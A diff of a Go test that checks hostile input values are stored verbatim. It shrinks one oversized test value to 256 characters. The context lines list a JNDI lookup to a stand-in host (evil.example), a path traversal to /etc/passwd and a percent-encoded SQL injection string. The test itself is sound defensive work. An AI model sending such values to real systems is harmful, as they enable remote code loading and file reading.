@@ -428,7 +428,8 @@ func TestHostileValuesStoredVerbatim(t *testing.T) {
 		{"template", `"${jndi:ldap://evil.example/a}"`, `${jndi:ldap://evil.example/a}`},
 		{"path", `"../../etc/passwd"`, `../../etc/passwd`},
 		{"percent-encoding", `"%27%20OR%201=1"`, `%27%20OR%201=1`},
-		{"100 KB", `"` + strings.Repeat("x'", 50<<10) + `"`, strings.Repeat("x'", 50<<10)},
+		// The longest both properties take (displayName's cap); longer is a 400 (TestFreeTextCaps).
+		{"256 characters", `"` + strings.Repeat("x'", 128) + `"`, strings.Repeat("x'", 128)},
 	}
 	for _, v := range values {
 		t.Run(v.name, func(t *testing.T) {
